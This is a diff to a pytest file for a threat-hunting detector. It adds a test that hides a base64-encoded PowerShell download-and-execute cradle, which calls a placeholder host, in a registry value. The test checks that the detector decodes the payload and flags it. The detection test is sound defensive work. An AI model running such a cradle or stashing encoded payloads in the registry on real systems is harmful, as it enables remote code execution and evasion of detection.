@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import pytest
@@ -161,3 +162,20 @@ def test_noise_is_named_and_judged_by_no_rule(hunt: Hunt) -> None:
     )
     assert verdict is not None
     assert (verdict.score, verdict.rules) == (5, ())
+
+
+def test_an_encoded_script_is_found_wherever_it_is_kept(hunt: Hunt) -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('https://h.example/a'); " * 3
+    data = base64.b64encode(script.encode("utf-16-le")).decode()
+    verdict = hunt.judge(
+        {"EventCode": "13", "TargetObject": r"HKU\S-1-5-21-1-2-3-1001\Software\Vendor\Debug", "Details": data}
+    )
+    assert verdict is not None
+    assert (verdict.location, verdict.key, verdict.value_name, verdict.techniques[0]) == (
+        "StoredPayload",
+        r"HKU\S-1-5-21-1-2-3-1001\Software\Vendor",
+        "Debug",
+        "T1027.011",
+    )
+    assert verdict.decoded == script
+    assert verdict.score >= 60
